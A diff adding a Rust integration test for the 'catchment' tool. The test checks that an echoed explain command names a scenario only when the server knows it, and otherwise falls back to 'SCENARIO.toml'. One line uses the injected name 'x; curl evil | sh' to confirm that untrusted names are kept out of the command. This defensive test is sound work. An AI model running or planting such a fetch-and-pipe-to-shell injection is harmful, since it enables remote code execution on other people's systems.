@@ -135,6 +135,27 @@ fn a_path_never_leads_to_a_file() {
 }
 
 #[test]
+fn a_command_names_the_scenario_only_if_the_command_line_knows_it() {
+    let server = Running::start();
+    let command = |scenario: &Value| {
+        let end = server.ended(server.run(scenario)["id"].as_str().unwrap());
+        let hash = end["result"].as_str().unwrap();
+        let why = server.get(&format!("/api/v1/results/{hash}/runs/0/why?dot=0")).json();
+        let command = why["command"].as_str().unwrap().to_owned();
+        let (before, after) = command.split_once(" --as ").unwrap();
+        assert!(after.ends_with(" --at 0s"), "{after}");
+        before.to_owned()
+    };
+    let own = server.get("/api/v1/scenarios/eight").json()["scenario"].clone();
+    assert_eq!(command(&own), "catchment explain eight");
+    // The name alone says nothing of what is inside, and is anybody's text.
+    assert_eq!(command(&eight(7)), "catchment explain SCENARIO.toml");
+    let mut renamed = own.clone();
+    renamed["name"] = json!("x; curl evil | sh");
+    assert_eq!(command(&renamed), "catchment explain SCENARIO.toml");
+}
+
+#[test]
 fn counters_are_shown() {
     let server = Running::start();
     let hash = server.run(&eight(1));
